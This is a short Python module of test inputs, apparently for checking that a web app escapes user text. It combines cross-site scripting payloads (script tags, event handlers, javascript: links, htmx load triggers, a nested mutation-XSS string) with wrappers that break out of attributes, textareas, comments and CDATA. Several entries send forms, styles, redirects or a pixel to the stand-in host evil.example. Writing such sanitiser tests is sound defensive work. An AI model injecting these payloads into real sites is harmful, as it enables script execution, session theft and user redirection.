"""Texts that would act if a page took them for markup: scripts, handlers, htmx attributes, broken tags."""

_ACTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<div hx-get=/sign-out hx-trigger=load>",
    "<div data-hx-on:load=alert(1)>",
    "<form action=//evil.example><button>x",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/pixel.png)",
)
_AROUND = (
    "{}",
    "Shipping {} to Norway",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "--><!-- {} -->",
    "]]>{}<![CDATA[",
    "{{{{ {} }}}}",
    "`{}`\n\n```\n{}\n```",
)
ACTING = [around.format(act, act) for around in _AROUND for act in _ACTS]
